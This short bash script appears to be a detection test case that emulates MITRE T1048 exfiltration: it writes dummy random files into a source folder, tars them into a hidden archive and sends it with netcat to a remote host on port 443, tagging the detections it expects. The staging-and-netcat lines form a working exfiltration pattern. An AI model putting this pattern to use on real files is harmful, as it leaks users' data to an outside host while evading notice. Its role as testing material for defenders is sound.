#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1048 Exfiltration Over Alternative Protocol
# behaviour: stages the user's own work files in an archive and pushes it raw over TCP with netcat
# as: user
# needs: remote
# expect: staging, new_destination
set -u
mkdir -p "$HOME/src"; for i in $(seq 1 20); do head -c 2048 /dev/urandom | base64 > "$HOME/src/mod$i.c"; done
tar czf "$SNTL_TMP/.s.tgz" -C "$HOME" src
timeout 10 nc -N $SNTL_REMOTE 443 < "$SNTL_TMP/.s.tgz" > /dev/null || true
